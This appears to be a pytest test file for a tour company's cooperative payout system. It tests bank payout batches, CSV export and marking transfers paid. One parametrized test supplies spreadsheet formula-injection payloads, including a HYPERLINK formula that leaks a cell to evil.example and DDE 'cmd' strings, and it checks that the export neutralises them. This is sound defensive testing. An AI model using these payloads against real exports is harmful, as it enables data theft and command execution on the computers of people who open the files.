"""Bank payouts: owed shares grouped per recipient and currency, the CSV for the bank, paid lines."""

import csv
import io

import pytest

from cacaotours.core.models import PayoutMethod
from cooperatives import services
from cooperatives.models import PayoutBatch, Share
from cooperatives.services import LedgerError
from tests.factories import DepartureFactory, FarmFactory, ShareRuleFactory, TourFactory

from .conftest import (
    FARM_CCI,
    FUND_CCI,
    assert_ledger_balanced,
    balance,
    entries,
    ledger_snapshot,
    legs_of,
    pay_simulated,
    ready,
    shares_of,
    starts_in,
)

pytestmark = pytest.mark.django_db
S = Share.Status
FUND = "Cloud-forest reforestation fund"
FARM = "Don Manuel's farm (Huamán family)"
HEADER = "line,beneficiary,account_holder,bank,cci,currency,amount,reference\r\n"


@pytest.fixture
def owed(rules, tour, fund, departure, traveller, django_capture_on_commit_callbacks):
    """Two S/ 700.00 bookings, one US$ 90.00 booking, and a farm without bank details.

    Owed in PEN: fund 2 × 70.00, farm 2 × 35.00, Señora Rosa's farm 2 × 14.00 (no bank details);
    owed in USD: fund 9.00.
    """
    no_details = FarmFactory(name_en="Señora Rosa's farm", payout_method=PayoutMethod.NONE)
    ShareRuleFactory(tour=tour, cooperative=None, farm=no_details, basis_points=200)
    usd_tour = TourFactory(currency="USD", adult_price=4500, child_price=None)
    ShareRuleFactory(tour=usd_tour, cooperative=None, fund=fund, basis_points=1000)
    bookings = [ready(departure, traveller), ready(departure, traveller)]
    bookings.append(ready(DepartureFactory(tour=usd_tour, starts_at=starts_in(20)), traveller))
    for booking in bookings:
        pay_simulated(booking, django_capture_on_commit_callbacks)
    return bookings, no_details


def test_a_batch_has_one_line_per_recipient_in_its_currency(owed, fund, farm, staff_user):
    bookings, no_details = owed

    batch = services.payout_batch_create(currency="PEN", actor=staff_user)

    assert (batch.currency, batch.status, batch.created_by) == ("PEN", PayoutBatch.Status.DRAFT, staff_user)
    assert [
        (str(line.recipient), line.amount, line.currency, line.bank_name, line.bank_account_holder, line.bank_cci)
        for line in batch.lines.order_by("id")
    ] == [
        (FUND, 14000, "PEN", "BCP", "Asociación Fondo de Reforestación", FUND_CCI),
        (FARM, 7000, "PEN", "Interbank", "Manuel Huamán Quispe", FARM_CCI),
    ]
    fund_line, farm_line = batch.lines.order_by("id")
    assert sorted(Share.objects.filter(payout_line=fund_line).values_list("booking_id", flat=True)) == [
        bookings[0].pk,
        bookings[1].pk,
    ]
    assert Share.objects.filter(payout_line=farm_line).count() == 2
    # still owed until the bank confirms; the farm without bank details and the USD share wait
    assert set(Share.objects.filter(payout_line__isnull=False).values_list("status", flat=True)) == {S.OWED}
    assert list(
        Share.objects.filter(payout_line__isnull=True, status=S.OWED)
        .order_by("id")
        .values_list("currency", "amount", "farm_id", "fund_id")
    ) == [("PEN", 1400, no_details.pk, None), ("PEN", 1400, no_details.pk, None), ("USD", 900, None, fund.pk)]

    usd = services.payout_batch_create(currency="USD", actor=staff_user)

    assert [(str(line.recipient), line.amount, line.currency) for line in usd.lines.all()] == [(FUND, 900, "USD")]


def test_nothing_left_to_pay_refuses_a_new_batch_and_changes_nothing(owed, staff_user):
    services.payout_batch_create(currency="PEN", actor=staff_user)
    before = ledger_snapshot()

    with pytest.raises(LedgerError, match=r"Nothing is owed in PEN to a recipient with bank details\."):
        services.payout_batch_create(currency="PEN", actor=staff_user)

    assert ledger_snapshot() == before


def test_the_csv_for_the_bank(owed, staff_user):
    batch = services.payout_batch_create(currency="PEN", actor=staff_user)
    fund_line, farm_line = batch.lines.order_by("id")

    assert services.payout_batch_csv(batch=batch) == (
        HEADER + f"{fund_line.pk},{FUND},Asociación Fondo de Reforestación,BCP,{FUND_CCI},PEN,140.00,"
        f"KALLPA-{batch.pk}-{fund_line.pk}\r\n"
        + f"{farm_line.pk},{FARM},Manuel Huamán Quispe,Interbank,{FARM_CCI},PEN,70.00,"
        f"KALLPA-{batch.pk}-{farm_line.pk}\r\n"
    )


@pytest.mark.parametrize(
    "holder",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Cobrar")',
        "+51 984 000 111",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
    ],
)
def test_the_csv_neutralises_spreadsheet_formulas(holder, tour, farm, departure, traveller, staff_user, capture):
    farm.bank_account_holder = holder
    farm.name_en = "=Don Manuel's farm"
    farm.save(update_fields=["bank_account_holder", "name_en"])
    ShareRuleFactory(tour=tour, cooperative=None, farm=farm, basis_points=500)
    pay_simulated(ready(departure, traveller), capture)
    batch = services.payout_batch_create(currency="PEN", actor=staff_user)

    [_header, row] = list(csv.reader(io.StringIO(services.payout_batch_csv(batch=batch))))

    line = batch.lines.get()
    assert row == [
        str(line.pk),
        "'=Don Manuel's farm (Huamán family)",
        "'" + holder,
        "Interbank",
        FARM_CCI,
        "PEN",
        "35.00",
        f"KALLPA-{batch.pk}-{line.pk}",
    ]


@pytest.fixture
def capture(django_capture_on_commit_callbacks):
    return django_capture_on_commit_callbacks


def test_marking_a_line_paid_posts_the_bank_payout_and_pays_its_shares(owed, fund, farm, staff_user):
    batch = services.payout_batch_create(currency="PEN", actor=staff_user)
    services.payout_batch_mark_exported(batch=batch, actor=staff_user)
    fund_line, farm_line = batch.lines.order_by("id")
    assert balance(fund) == -14000

    services.payout_line_mark_paid(line_id=fund_line.pk, bank_reference="  BCP-000123 ", actor=staff_user)

    fund_line.refresh_from_db()
    assert fund_line.bank_reference == "BCP-000123" and fund_line.paid_at is not None
    [payout] = entries("bank_payout")
    assert (payout.booking_id, payout.idempotency_key, payout.memo) == (
        None,
        f"bank_payout:{fund_line.pk}",
        f"bank payout BCP-000123 to {FUND}",
    )
    assert legs_of(payout) == [(f"payable:{FUND}", "PEN", 14000), ("bank", "PEN", -14000)]
    paid_shares = Share.objects.filter(payout_line=fund_line)
    assert set(paid_shares.values_list("status", flat=True)) == {S.PAID}
    assert {
        (t.from_status, t.to_status, t.actor_id, t.reason) for s in paid_shares for t in s.transitions.all()[2:]
    } == {(S.OWED, S.PAID, staff_user.pk, "bank transfer BCP-000123")}
    assert balance(fund) == 0
    batch.refresh_from_db()
    assert batch.status == PayoutBatch.Status.EXPORTED  # the farm's line is not paid yet

    services.payout_line_mark_paid(line_id=farm_line.pk, bank_reference="IBK-77", actor=staff_user)

    batch.refresh_from_db()
    assert batch.status == PayoutBatch.Status.PAID
    assert balance(farm) == 0
    assert_ledger_balanced()


@pytest.mark.parametrize("reference", ["", "   ", None])
def test_a_line_is_not_marked_paid_without_the_banks_reference(owed, staff_user, reference):
    batch = services.payout_batch_create(currency="PEN", actor=staff_user)
    before = ledger_snapshot()

    with pytest.raises(LedgerError, match=r"Enter the bank's reference for this transfer\."):
        services.payout_line_mark_paid(line_id=batch.lines.first().pk, bank_reference=reference, actor=staff_user)

    assert ledger_snapshot() == before


def test_a_line_is_not_marked_paid_twice(owed, staff_user):
    batch = services.payout_batch_create(currency="PEN", actor=staff_user)
    line = batch.lines.order_by("id").first()
    services.payout_line_mark_paid(line_id=line.pk, bank_reference="BCP-000123", actor=staff_user)
    before = ledger_snapshot()

    with pytest.raises(LedgerError, match=r"already marked paid \(reference BCP-000123\)"):
        services.payout_line_mark_paid(line_id=line.pk, bank_reference="BCP-999", actor=staff_user)

    assert ledger_snapshot() == before


def test_owed_shares_of_a_bank_recipient_are_all_in_one_line_per_batch(owed, fund, staff_user):
    bookings, _ = owed

    services.payout_batch_create(currency="PEN", actor=staff_user)

    assert [s.payout_line_id is not None for s in shares_of(bookings[0])] == [False, True, True, False]
